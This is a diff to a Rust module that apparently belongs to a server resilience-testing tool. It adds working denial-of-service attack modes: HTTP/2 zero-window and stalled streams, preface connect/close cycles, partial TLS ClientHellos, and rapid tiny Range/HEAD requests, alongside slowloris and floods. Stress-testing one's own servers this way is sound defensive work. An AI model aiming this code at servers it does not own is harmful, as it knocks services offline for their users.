@@ -12,7 +12,17 @@
 //! - malformed: a 1 MiB header line, 100,000 header lines, a 64 KiB target,
 //!   binary noise and a line that is not HTTP, in turn;
 //! - reset: ask for a large asset, read the start, then close with
-//!   `SO_LINGER` 0 so the server's next write meets a reset.
+//!   `SO_LINGER` 0 so the server's next write meets a reset;
+//! - HTTP/2 with no window: open `streams` streams on a large asset with
+//!   `SETTINGS_INITIAL_WINDOW_SIZE` 0 and never send a WINDOW_UPDATE
+//!   (what the server sends is read and dropped, to see it close);
+//! - HTTP/2 stalled: the same with the default windows, through a 4 KiB
+//!   receive window, never reading;
+//! - preface cycles: connect, send `P` (the start of the HTTP/2
+//!   preface), close, again and again;
+//! - partial TLS: send the first bytes of a ClientHello and nothing more;
+//! - tiny ranges: keep-alive requests for `Range: bytes=0-0` and HEAD of
+//!   a large asset, one after the other, as fast as they are answered.
 //!
 //! [`Attack::Together`] runs several at once (10,000 idle keep-alive
 //! connections and 3,000 slowloris ones, say), each reported on its own.
@@ -22,7 +32,7 @@
 //! again a second later, as a real attacker would (and no sooner, so a
 //! server that sheds them is not answered with a connect storm).
 
-use super::wire;
+use super::{h2, wire};
 use serde::Serialize;
 use socket2::{Domain, SockRef, Socket, Type};
 use std::collections::BTreeMap;
@@ -53,6 +63,29 @@ pub enum Attack {
         target: String,
         read_bytes: usize,
     },
+    /// `count` HTTP/2 connections with `streams` streams each on
+    /// `target`, an initial window of 0 and never a WINDOW_UPDATE.
+    H2NoWindow {
+        count: usize,
+        streams: usize,
+        target: String,
+    },
+    /// `count` HTTP/2 connections with `streams` streams each on
+    /// `target`, the default windows, never reading.
+    H2Stalled {
+        count: usize,
+        streams: usize,
+        target: String,
+    },
+    /// `workers` threads each connecting, sending `P` and closing, again
+    /// and again.
+    PrefaceCycles { workers: usize },
+    /// `count` connections that send the start of a TLS ClientHello and
+    /// nothing more.
+    PartialTls { count: usize },
+    /// `workers` keep-alive connections asking for one byte of `target`
+    /// (`Range: bytes=0-0`) and its HEAD, in turn, without pause.
+    TinyRanges { workers: usize, target: String },
     /// Several attacks at once.
     Together(Vec<Attack>),
 }
@@ -77,6 +110,11 @@ impl Attack {
             Attack::IdleKeepAlive { .. } => "idle-keepalive".into(),
             Attack::Malformed { .. } => "malformed".into(),
             Attack::Reset { .. } => "reset".into(),
+            Attack::H2NoWindow { .. } => "h2-no-window".into(),
+            Attack::H2Stalled { .. } => "h2-stalled".into(),
+            Attack::PrefaceCycles { .. } => "preface-cycles".into(),
+            Attack::PartialTls { .. } => "partial-tls".into(),
+            Attack::TinyRanges { .. } => "tiny-ranges".into(),
             Attack::Together(attacks) => {
                 let modes: Vec<String> = attacks.iter().map(Attack::mode).collect();
                 modes.join("+")
@@ -107,6 +145,29 @@ impl Attack {
             } => format!(
                 "{workers} connections at a time GET {target} (identity), read {read_bytes} bytes, close with SO_LINGER 0"
             ),
+            Attack::H2NoWindow {
+                count,
+                streams,
+                target,
+            } => format!(
+                "{count} HTTP/2 connections, {streams} streams each on {target}, initial window 0, never a WINDOW_UPDATE"
+            ),
+            Attack::H2Stalled {
+                count,
+                streams,
+                target,
+            } => format!(
+                "{count} HTTP/2 connections, {streams} streams each on {target}, default windows, through a 4 KiB receive window, never reading"
+            ),
+            Attack::PrefaceCycles { workers } => format!(
+                "{workers} threads each connect, send `P` (part of the HTTP/2 preface) and close, in a loop"
+            ),
+            Attack::PartialTls { count } => format!(
+                "{count} connections that send the first 9 bytes of a TLS ClientHello and nothing more"
+            ),
+            Attack::TinyRanges { workers, target } => format!(
+                "{workers} keep-alive connections ask for `Range: bytes=0-0` and a HEAD of {target} in turn, without pause"
+            ),
             Attack::Together(attacks) => {
                 let each: Vec<String> = attacks.iter().map(Attack::describe).collect();
                 format!("at once: {}", each.join("; and "))
@@ -124,7 +185,7 @@ impl Attack {
     fn launch(&self, addr: SocketAddr, stop: &Arc<AtomicBool>) -> Running {
         let held = Arc::new(AtomicU64::new(0));
         let spawn = |work: Box<dyn FnOnce() -> AttackReport + Send>| std::thread::spawn(work);
-        let hold = |count, greeting, trickle, small_window, keepalive| {
+        let hold = |count, greeting, trickle, small_window, keepalive, drain| {
             let hold = Hold {
                 addr,
                 count,
@@ -132,26 +193,65 @@ impl Attack {
                 trickle,
                 small_window,
                 keepalive,
+                drain,
                 stop: stop.clone(),
                 open_now: held.clone(),
             };
             vec![spawn(Box::new(move || hold.run()))]
         };
+        let workers =
+            |n: usize, work: fn(SocketAddr, &str, &AtomicBool) -> AttackReport, arg: &str| {
+                (0..n)
+                    .map(|_| {
+                        let stop = stop.clone();
+                        let arg = arg.to_string();
+                        spawn(Box::new(move || work(addr, &arg, &stop)))
+                    })
+                    .collect::<Vec<_>>()
+            };
         let threads = match self.clone() {
             Attack::SlowReaders { count, target } => {
                 let get = wire::get_request(addr, &target, &["Accept-Encoding: identity"]);
-                hold(count, get, None, true, false)
+                hold(count, get, None, true, false, false)
             }
             Attack::Slowloris { count, trickle } => {
                 let mut greeting = wire::get_request(addr, "/healthz", &["User-Agent: slowloris"]);
                 greeting.truncate(greeting.len() - 2); // no blank line: never complete
-                hold(count, greeting, Some(trickle), false, false)
+                hold(count, greeting, Some(trickle), false, false, false)
             }
-            Attack::Flood { count } => hold(count, Vec::new(), None, false, false),
+            Attack::Flood { count } => hold(count, Vec::new(), None, false, false, false),
             Attack::IdleKeepAlive { count, target } => {
                 let get = wire::get_request(addr, &target, &["User-Agent: idle-keepalive"]);
-                hold(count, get, None, false, true)
+                hold(count, get, None, false, true, false)
             }
+            Attack::H2NoWindow {
+                count,
+                streams,
+                target,
+            } => {
+                let greeting = h2_greeting(&[(h2::INITIAL_WINDOW_SIZE, 0)], streams, &target);
+                hold(count, greeting, None, false, false, true)
+            }
+            Attack::H2Stalled {
+                count,
+                streams,
+                target,
+            } => hold(
+                count,
+                h2_greeting(&[], streams, &target),
+                None,
+                true,
+                false,
+                false,
+            ),
+            Attack::PartialTls { count } => {
+                // A handshake record of 512 bytes, of which a ClientHello's
+                // first 4 come: the server waits for the other 508.
+                let greeting = vec![0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc];
+                hold(count, greeting, None, false, false, false)
+            }
+            Attack::PrefaceCycles { workers: n } => workers(n, preface_cycles, ""),
+            Attack::TinyRanges { workers: n, target } => workers(n, tiny_ranges, &target),
             Attack::Malformed { workers } => (0..workers)
                 .map(|i| {
                     let stop = stop.clone();
@@ -203,8 +303,14 @@ impl Attack {
             Attack::SlowReaders { count, .. }
             | Attack::Slowloris { count, .. }
             | Attack::Flood { count }
-            | Attack::IdleKeepAlive { count, .. } => *count as u64,
-            Attack::Malformed { .. } | Attack::Reset { .. } => 0,
+            | Attack::IdleKeepAlive { count, .. }
+            | Attack::H2NoWindow { count, .. }
+            | Attack::H2Stalled { count, .. }
+            | Attack::PartialTls { count } => *count as u64,
+            Attack::Malformed { .. }
+            | Attack::Reset { .. }
+            | Attack::PrefaceCycles { .. }
+            | Attack::TinyRanges { .. } => 0,
             Attack::Together(attacks) => attacks.iter().map(Attack::holds).sum(),
         }
     }
@@ -336,6 +442,9 @@ struct Hold {
     /// Idle keep-alive: the greeting is a whole request, whose answer is
     /// read in full before the connection goes quiet.
     keepalive: bool,
+    /// HTTP/2: what the server sends is read and dropped (the connection
+    /// is held until the server closes it).
+    drain: bool,
     stop: Arc<AtomicBool>,
     /// Connections open now, for [`Running::held`].
     open_now: Arc<AtomicU64>,
@@ -439,6 +548,16 @@ impl Hold {
     fn alive(&self, held: &mut Held, buf: &mut [u8], report: &mut AttackReport) -> bool {
         if self.small_window {
             return !matches!(held.stream.take_error(), Ok(Some(_)) | Err(_));
+        }
+        if self.drain {
+            loop {
+                match held.stream.read(buf) {
+                    Ok(0) => return false,
+                    Ok(_) => {}
+                    Err(e) if e.kind() == ErrorKind::WouldBlock => return true,
+                    Err(_) => return false,
+                }
+            }
         }
         let due = self.trickle.filter(|_| Instant::now() >= held.next_trickle);
         if let Some(trickle) = due {
@@ -619,6 +738,90 @@ fn reset(addr: SocketAddr, target: &str, read_bytes: usize, stop: &AtomicBool) -
         // SO_LINGER 0: close() sends a reset and discards what is queued.
         let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
         drop(stream);
+    }
+    report
+}
+
+/// The HTTP/2 preface, SETTINGS with `settings`, and HEADERS for
+/// `streams` GETs of `target` (streams 1, 3, 5, ...).
+fn h2_greeting(settings: &[(u16, u32)], streams: usize, target: &str) -> Vec<u8> {
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(h2::settings(settings));
+    let block = h2::request(target, &[("accept-encoding", b"gzip, br")]);
+    for stream in (1..).step_by(2).take(streams) {
+        out.extend(h2::header_frames(stream, &block, true));
+    }
+    out
+}
+
+/// One worker of the preface cycles: connect, `P`, close, until stopped.
+fn preface_cycles(addr: SocketAddr, _: &str, stop: &AtomicBool) -> AttackReport {
+    let mut report = AttackReport::default();
+    while !stop.load(Ordering::Relaxed) {
+        match open(addr, false) {
+            Ok(mut stream) => {
+                report.opened += 1;
+                if stream.write_all(b"P").is_err() {
+                    report.writes_cut += 1;
+                }
+            }
+            Err(e) => {
+                report.connect_failed(&e);
+                std::thread::sleep(TICK);
+            }
+        }
+    }
+    report
+}
+
+/// One worker of the tiny ranges: one keep-alive connection (opened again
+/// when the server closes it) asking for byte 0 of `target` and for its
+/// HEAD in turn, each answer read before the next request.
+fn tiny_ranges(addr: SocketAddr, target: &str, stop: &AtomicBool) -> AttackReport {
+    let mut report = AttackReport::default();
+    let range = wire::get_request(addr, target, &["Range: bytes=0-0"]);
+    let mut head = wire::get_request(addr, target, &[]);
+    head.splice(..3, b"HEAD".iter().copied());
+    while !stop.load(Ordering::Relaxed) {
+        let stream = match open(addr, false) {
+            Ok(s) => s,
+            Err(e) => {
+                report.connect_failed(&e);
+                std::thread::sleep(TICK);
+                continue;
+            }
+        };
+        report.opened += 1;
+        report.peak_open = 1;
+        let _ = stream.set_read_timeout(Some(ANSWER));
+        let mut reader = std::io::BufReader::new(&stream);
+        for i in 0.. {
+            if stop.load(Ordering::Relaxed) {
+                break;
+            }
+            let is_head = i % 2 == 1;
+            let request = if is_head { &head } else { &range };
+            if (&stream).write_all(request).is_err() {
+                report.writes_cut += 1;
+                break;
+            }
+            match wire::read_response(&mut reader, is_head) {
+                Ok(r) => {
+                    report.answer(r.status.to_string());
+                    if r.close {
+                        break;
+                    }
+                }
+                Err(e) if e.is_timeout() => {
+                    report.answer("timeout");
+                    break;
+                }
+                Err(_) => {
+                    report.answer("reset");
+                    break;
+                }
+            }
+        }
     }
     report
 }
